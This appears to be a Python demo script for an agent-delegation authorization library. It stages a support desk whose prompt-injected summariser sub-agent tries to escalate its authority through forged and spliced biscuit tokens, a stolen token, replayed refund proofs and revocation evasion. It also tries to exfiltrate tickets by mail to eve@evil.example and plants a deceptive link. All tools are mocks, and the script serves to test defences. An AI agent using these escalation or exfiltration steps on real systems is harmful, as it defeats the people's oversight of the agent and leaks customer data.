"""Plays the support desk: an orchestrator, three agents, a hijacked sub-agent, a ticket left open.

Every attempt is a real request to a real server. The mock tools record what was executed, so harm is
counted by its effect and not by what somebody says about it.
"""

from __future__ import annotations

import secrets
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from typing import Final

from rich.console import Console
from rich.text import Text

from delegation import canonical
from delegation.authority.access import Access
from delegation.authority.approval import ApprovalRule
from delegation.authority.capability import Capability, may
from delegation.authority.catalogue import Tool
from delegation.authority.chain import child_payload
from delegation.authority.constraints import all_of, between, each, email, exact, links, text
from delegation.authority.grant import Grant
from delegation.authority.pattern import tool_pattern
from delegation.canonical import Json
from delegation.client import Client
from delegation.commands.announce import announcement
from delegation.commands.revoke import revocation_request
from delegation.errors import WiderThanParentError
from delegation.graph.names import clean
from delegation.identity.keys import HolderKey
from delegation.judge.decision import Decision
from delegation.lineage.entry import TaskEntry
from delegation.tokens import biscuit, biscuit_wire
from delegation.tokens.text import TokenBytes, read_text
from delegation.tokens.token import Token

OWNER: Final = "ana@acme.example"
DESK: Final = "https://desk.acme.example"
TOOLS: Final = (
    Tool("crm.tickets.read", effect="read", system="crm", domain="support", labels=("pii",),
         sensitivity=2, arguments={"ticket": "opaque"}, resource="crm:acme/tickets/{ticket}"),
    Tool("payments.refund", effect="write", system="payments", domain="finance", sensitivity=2,
         arguments={
             "order": "opaque",
             "amount": {"type": "money", "currency": "USD", "min": 1, "max": 1000000},
         },
         cost={"usd_cents": "amount"}),
    Tool("mail.send", effect="write", system="mail", domain="support", labels=("external",),
         arguments={"to": {"type": "list", "of": "email"}, "body": "text"}),
)  # fmt: skip
READ: Final = may("crm.tickets.read", resources=["crm:acme/tickets/*"], ticket=text(max=16))
REFUND: Final = may("payments.refund", order=text(max=16), amount=between(1, 5000))
MAIL: Final = may(
    "mail.send",
    to=each(email("acme.example", "customer.example")),
    body=all_of(text(max=2000), links("acme.example")),
)


_ORDER: Final = "https://acme.example/orders/ord-88"


@dataclass(slots=True)
class Tools:
    """Mock systems behind the desk: they do what they are told and remember it."""

    executed: list[tuple[str, dict[str, Json]]] = field(default_factory=list)

    def execute(self, tool: str, arguments: dict[str, Json]) -> None:
        """Do it."""
        self.executed.append((tool, arguments))


@dataclass(slots=True)
class Member:
    """An agent of the desk with its key and the token it was handed."""

    key: HolderKey
    token: Token


def call(tool: str, audience: str = DESK, **arguments: Json) -> Access:
    """Return a call of a tool, ready to be proven."""
    cost = arguments.get("amount")
    most = {"usd_cents": cost} if type(cost) is int else {}
    return Access(tool, arguments, audience, purpose="support/ticket", max_cost=most)


class Desk:
    """The scenario, run against one service.

    Args:
        client: An operator's client.
        console: Where attempts are printed.
    """

    def __init__(self, client: Client, console: Console) -> None:
        """Open the task and hand the work out."""
        self._client, self._console = client, console
        self._tools, self._baseline = Tools(), Tools()
        self._wrong: list[str] = []
        self._harmful = 0
        for tool in TOOLS:
            client.add_tool(tool)
        names = ("orchestrator", "retrieval", "refund", "mail", "summariser")
        keys = {name: HolderKey.generate(name) for name in names}
        for name, key in keys.items():
            client.add_agent(name, owner=OWNER, keys=[key.public])
        ceiling = Grant(
            [READ, replace(REFUND, delegate_only=True), MAIL], audience=[DESK],
            purpose="support", delegations_left=4,
            budget={"calls": 40, "usd_cents": 8000},
        )  # fmt: skip
        self.task = client.open_task(
            "Refund for ticket 4711", owner=OWNER, ceiling=ceiling, lasts=900
        )
        boss = keys["orchestrator"]
        root = client.issue(self.task, to=boss.public)
        self._members = {"orchestrator": Member(boss, root)}
        shares: dict[str, tuple[str, Capability, dict[str, object]]] = {
            "retrieval": ("orchestrator", READ, {"budget": {"calls": 10}, "effects": ["read"]}),
            "refund": ("orchestrator", REFUND, {"budget": {"calls": 3, "usd_cents": 5000}}),
            "mail": ("orchestrator", MAIL.narrow(to=each(email("customer.example"))), {}),
            "summariser": (
                "retrieval",
                READ.narrow(resources=["crm:acme/tickets/4711"], ticket=exact("4711")),
                {"budget": {"calls": 3}},
            ),
        }
        for name, (giver, capability, fields) in shares.items():
            by = self._members[giver]
            grant = by.token.grant.narrow([capability], **fields)
            token = by.token.delegate(by=by.key, to=keys[name].public, grant=grant)
            self._members[name] = Member(keys[name], token)
            proof = keys[name].prove(token, announcement(token.chain.origin.issuer))
            client.announce(token, proof)

    @property
    def keys(self) -> dict[str, HolderKey]:
        """Return each member's key by the member's name."""
        return {name: member.key for name, member in self._members.items()}

    def run(self) -> bool:
        """Run everything; return whether all honest calls passed and all harmful ones did not."""
        self._say("Honest work")
        self._honest("retrieval", call("crm.tickets.read", ticket="4711"))
        self._honest("summariser", call("crm.tickets.read", ticket="4711"))
        paid = self._honest("refund", call("payments.refund", order="ord-88", amount=4500))
        note = call(
            "mail.send", to=["kim@customer.example"], body=f"Your refund is on its way: {_ORDER}."
        )
        self._honest("mail", replace(note, cause=paid.id))
        self._say("The summariser is hijacked by what it read")
        self._attacks()
        self._say("Cut it")
        self._cut()
        return self._close()

    def _attacks(self) -> None:
        me, boss = self._members["summariser"], self._members["orchestrator"]
        steal = call("payments.refund", order="ord-99", amount=5000)
        leak = call("mail.send", to=["eve@evil.example"], body="All tickets")
        self._widen_in_library(me)
        wide = widened(me.token, me.key, Grant([READ, REFUND, MAIL], effects=["read", "write"]))
        self._harm(
            "widens its grant with a hand-made link", leak, lambda a: self._ask(wide, me.key, a)
        )
        self._harm(
            "calls a tool it was never given", steal, lambda a: self._ask(me.token, me.key, a)
        )
        other = call("crm.tickets.read", ticket="4712")
        self._harm("reads another ticket", other, lambda a: self._ask(me.token, me.key, a))
        self._harm(
            "steals the orchestrator's token", leak, lambda a: self._ask(boss.token, me.key, a)
        )
        upper = self._members["retrieval"].token
        self._harm("strips its own link off", other, lambda a: self._ask(upper, me.key, a))
        splice = spliced(boss.token, me.token)
        self._harm(
            "splices itself under the root",
            steal,
            lambda a: self._send(splice, me.key, me.token, a),
        )
        innocent = HolderKey.generate("mail")
        forged = me.token.delegate(by=me.key, to=innocent.public, grant=Grant(delegations_left=0))
        mine = call("crm.tickets.read", ticket="4711")
        self._harm(
            "forges lineage that names the mail agent",
            mine,
            lambda a: self._ask(forged, innocent, a),
        )
        refund = self._members["refund"]
        small = call("payments.refund", order="ord-88", amount=400)
        seen = refund.key.prove(refund.token, small)
        self._honest("refund", small, proof=seen)
        self._harm("replays the refund it overheard", small,
                   lambda a: self._client.check(refund.token, seen, a))  # fmt: skip
        more = call("payments.refund", order="ord-88", amount=4999)
        self._harm(
            "alters the overheard amount", more, lambda a: self._client.check(refund.token, seen, a)
        )
        away = call("crm.tickets.read", audience="https://other.example", ticket="4711")
        self._harm("turns to another service", away, lambda a: self._ask(me.token, me.key, a))
        mail = self._members["mail"]
        self._harm(
            "talks the mail agent into leaking", leak, lambda a: self._ask(mail.token, mail.key, a)
        )
        lure = call(
            "mail.send",
            to=["kim@customer.example"],
            body="See https://acme.example@evil.example/ord-88",
        )
        self._harm(
            "slips a link to elsewhere into a mail",
            lure,
            lambda a: self._ask(mail.token, mail.key, a),
        )
        self._harm("talks the refund agent into paying again", steal,
                   lambda a: self._ask(refund.token, refund.key, a))  # fmt: skip
        self._harm("talks the orchestrator into paying itself", small,
                   lambda a: self._ask(boss.token, boss.key, a))  # fmt: skip

    def _cut(self) -> None:
        me, boss = self._members["summariser"], self._members["orchestrator"]
        cut = self._members["retrieval"].token.id
        request = revocation_request(boss.token.chain.origin.issuer, cut)
        done = self._client.revoke_below(boss.token, boss.key.prove(boss.token, request), cut)
        self._say(
            f"  the orchestrator cuts the retrieval link itself, without the issuer (epoch {done.epoch})"
        )
        mine = call("crm.tickets.read", ticket="4711")
        self._harm("acts after revocation", mine, lambda a: self._ask(me.token, me.key, a))
        mail = self._members["mail"]
        note = call("mail.send", to=["kim@customer.example"], body="Closed.")
        self._honest("mail", note)
        self._client.close_task(self.task)
        self._say("  the task is closed")
        self._harm(
            "acts after the task is over", note, lambda a: self._ask(mail.token, mail.key, a)
        )

    def _widen_in_library(self, me: Member) -> None:
        try:
            me.token.delegate(by=me.key, to=me.key.public, grant=Grant([MAIL]))
        except WiderThanParentError as error:
            self._say(f"  the library refuses to widen: {error.reason} at {error.field}")
            return
        self._wrong.append("the library widened a grant")

    def _ask(self, token: Token, key: HolderKey, access: Access) -> Decision:
        return self._client.check(token, key.prove(token, access), access)

    def _send(self, text_: str, key: HolderKey, like: Token, access: Access) -> Decision:
        """Send a token that our own library would not even read."""
        proof = key.prove(replace(like, text=text_), access)
        return self._client.check(text_, proof, access)

    def _honest(self, name: str, access: Access, *, proof: str | None = None) -> Decision:
        member = self._members[name]
        proof = proof or member.key.prove(member.token, access)
        decision = self._client.check(member.token, proof, access)
        self._line(f"{name}: {access.tool}", decision)
        if decision:
            self._tools.execute(access.tool, dict(decision.arguments))
        else:
            self._wrong.append(f"honest {name} was refused")
        return decision

    def _harm(self, what: str, access: Access, attempt: Callable[[Access], Decision]) -> None:
        """Attempt something harmful twice: with a shared broad credential, and at the desk."""
        self._harmful += 1
        # The shared key says that somebody may; no check is left that could refuse.
        self._baseline.execute(access.tool, dict(access.arguments))
        decision = attempt(access)
        self._line(what, decision)
        if decision:
            self._tools.execute(access.tool, dict(decision.arguments))
            self._wrong.append(what)

    def _say(self, text_: str) -> None:
        style = "" if text_.startswith(" ") else "bold"
        self._console.print(Text(text_, style=style))

    def _line(self, what: str, decision: Decision) -> None:
        denial = decision.denial
        if denial is None:
            self._console.print(Text(f"  ✓ {what}"))
            return
        where = "" if denial.depth is None else f", link {denial.depth}"
        code = f"step {denial.step} {denial.code}{where}"
        self._console.print(Text(f"  ✕ {what:<42} {code}"))
        self._console.print(Text(f"      {clean(denial.remedy, 90)}", style="dim"))

    def _close(self) -> bool:
        passed = len(self._wrong)
        self._say("Harmful actions that got through")
        self._console.print(
            f"  with a shared broad credential: {len(self._baseline.executed)} of {self._harmful}"
        )
        self._console.print(f"  with the tracker:               {passed} of {self._harmful}")
        for what in self._wrong:
            self._console.print(Text(f"  WRONG: {what}", style="bold"))
        return not self._wrong


APPROVERS: Final = ("finance", "cy@acme.example")  # a role, and a person
LASTS: Final = 30 * 3600  # seconds: longer than a day is a finding


def leave_open(client: Client, keys: Mapping[str, HolderKey]) -> tuple[TaskEntry, Decision]:
    """Open a task, hand it on, and ask for a refund that people have to consent to.

    An unregistered key called `rnail` gets all that the orchestrator holds, and never uses it.

    Args:
        client: An operator's client, at whose service the desk's tools and agents are registered.
        keys: The keys of `orchestrator` and `refund`.

    Returns:
        The task, and the decision of the refund.
    """
    rule = ApprovalRule((tool_pattern("payments.*"),), approvers=APPROVERS, quorum=1)
    ceiling = Grant(
        [READ, REFUND, MAIL], audience=[DESK], purpose="support", delegations_left=3,
        budget={"calls": 40, "usd_cents": 20_000}, needs_approval=[rule],
    )  # fmt: skip
    task = client.open_task("Refund for ticket 4712", owner=OWNER, ceiling=ceiling, lasts=LASTS)
    boss, clerk = keys["orchestrator"], keys["refund"]
    root = client.issue(task, to=boss.public)
    fewer = root.grant.narrow([REFUND], budget={"calls": 5, "usd_cents": 5000})
    for key, grant in ((HolderKey.generate("rnail"), Grant()), (clerk, fewer)):
        token = root.delegate(by=boss, to=key.public, grant=grant)
        client.announce(token, key.prove(token, announcement(token.chain.origin.issuer)))
    refund = call("payments.refund", order="ord-91", amount=4800)
    return task, client.check(token, clerk.prove(token, refund), refund)


def widened(token: Token, key: HolderKey, grant: Grant) -> Token:
    """Return a biscuit with one more link, well signed by its holder, that holds too much.

    Args:
        token: What the attacker holds.
        key: Its key.
        grant: What it would like to hold; unset fields are copied.
    """
    leaf = token.chain.leaf
    payload = child_payload(
        leaf.id,
        holder_key=key.public.key,
        holder_name=key.name,
        grant=grant.filled_from(leaf.grant),
        salt=secrets.token_bytes(16),
        least=leaf.version,
    )
    body = biscuit.append(read_text(token.text).body, payload, holder_seed=key.secret_seed())
    return replace(token, text=TokenBytes("biscuit", body).to_text())


def spliced(root: Token, victim: Token) -> str:
    """Return the text of a biscuit that takes one token's root and another's last block."""
    above = biscuit_wire.read(read_text(root.text).body)
    below = biscuit_wire.read(read_text(victim.text).body)
    parts = replace(above, blocks=(*above.blocks, below.blocks[-1]), seed=below.seed)
    return f"dct.b1.{canonical.b64u(biscuit_wire.write(parts))}"
